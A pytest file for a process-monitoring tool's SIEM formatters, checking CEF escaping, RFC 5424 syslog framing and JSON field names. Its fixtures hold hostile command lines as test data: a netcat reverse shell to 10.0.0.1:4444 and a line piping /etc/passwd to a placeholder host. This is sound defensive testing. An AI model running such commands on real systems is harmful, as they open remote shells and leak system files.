"""SIEM formats: CEF escaping on hostile input, RFC 5424 framing, NeuVector JSON fields."""

from __future__ import annotations

import re

import orjson
import pytest

from schemas import Incident, IncidentAction, Level
from schemas.records import replace
from sinks.siem.formats import cef, incident_json, syslog_5424

BASE = Incident(
    name="Process.Profile.Violation", level=Level.WARNING, reported_timestamp=1_700_000_000,
    reported_at="2023-11-14T22:13:20Z", cluster_name="prod", host_id="node-1",
    host_name="node-1", enforcer_id="node-1", enforcer_name="node-1", id="inc-1",
    workload_id="c1", workload_name="web", workload_domain="demo", workload_image="nginx",
    workload_service="web.demo", action=IncidentAction.DENY, group="nv.web.demo",
    rule_id="00000000-0000-0000-0000-000000000007",
    message="Process profile violation: execution denied", proc_name="nc",
    proc_path="/usr/bin/nc", proc_cmd="nc -e /bin/sh 10.0.0.1 4444")


def _ext(line: str) -> dict[str, str]:
    """Parse CEF extensions the way a SIEM does: split on unescaped ` key=`."""
    ext = line.split("|", 7)[7]
    pairs = re.split(r" (?=[A-Za-z0-9]+=)", ext)
    out = {}
    for pair in pairs:
        key, _, value = pair.partition("=")
        out[key] = re.sub(r"\\(.)", lambda m: "\n" if m.group(1) == "n" else m.group(1), value)
    return out


def _header(line: str) -> list[str]:
    fields, cur, esc = [], "", False
    for ch in line:
        if esc:
            cur += ch
            esc = False
        elif ch == "\\":
            esc = True
        elif ch == "|" and len(fields) < 7:
            fields.append(cur)
            cur = ""
        else:
            cur += ch
    return fields


HOSTILE = {
    "pipes": "sh -c 'cat /etc/passwd | nc x 1'",
    "equals": "env A=B C==D",
    "backslashes": "C:\\temp\\x \\\\n",
    "newlines": "line1\nline2\r\nline3",
    "all": "a|b=c\\d\ne",
}


@pytest.mark.parametrize("cmd", HOSTILE.values(), ids=HOSTILE.keys())
def test_cef_escapes_hostile_command_lines(cmd: str) -> None:
    line = cef(replace(BASE, proc_cmd=cmd, message=f"msg | {cmd}"))
    assert "\n" not in line and "\r" not in line
    header = _header(line)
    assert header[:4] == ["CEF:0", "procwarden", "procwarden", "1"]
    assert header[4] == "Process.Profile.Violation"
    assert header[5] == f"msg | {cmd}".replace("\r", " ").replace("\n", " ")
    assert _ext(line)["cmd"] == cmd.replace("\r\n", "\n").replace("\r", "\n")


def test_cef_fields_and_severity() -> None:
    ext = _ext(cef(BASE))
    assert (ext["cs1Label"], ext["cs1"]) == ("group", "nv.web.demo")
    assert (ext["act"], ext["sproc"], ext["rt"]) == ("deny", "nc", "1700000000000")
    assert _header(cef(BASE))[6] == "6"
    assert _header(cef(replace(BASE, level=Level.CRITICAL)))[6] == "9"


def test_json_keeps_neuvector_field_names() -> None:
    data = orjson.loads(incident_json(BASE))
    for field in ("name", "level", "reported_timestamp", "reported_at", "cluster_name",
                  "host_name", "enforcer_id", "workload_id", "workload_domain", "proc_cmd",
                  "action", "group", "rule_id", "aggregation_from", "count", "message"):
        assert field in data
    assert data["action"] == "deny" and data["level"] == "WARNING"


def test_rfc5424_line() -> None:
    line = syslog_5424(BASE, "body", hostname="node 1").decode()
    assert re.fullmatch(r'<12>1 2023-11-14T22:13:20Z node_1 procwarden - '
                        r'Process.Profile.Violation \[procwarden@32473 group="nv.web.demo" '
                        r'action="deny" id="inc-1"\] body', line)
    critical = syslog_5424(replace(BASE, level=Level.CRITICAL, group='a"]b'), b"x",
                           hostname="h").decode()
    assert critical.startswith("<10>1 ") and 'group="a\\"\\]b"' in critical
